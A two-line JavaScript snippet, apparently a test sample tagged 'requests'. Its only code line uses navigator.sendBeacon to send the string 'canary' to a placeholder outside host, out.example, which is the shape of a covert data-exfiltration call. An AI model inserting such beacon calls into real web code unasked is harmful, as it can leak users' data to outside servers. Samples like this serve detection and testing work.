/* {"family": "requests"} */
navigator.sendBeacon('https://out.example/beacon', 'canary');
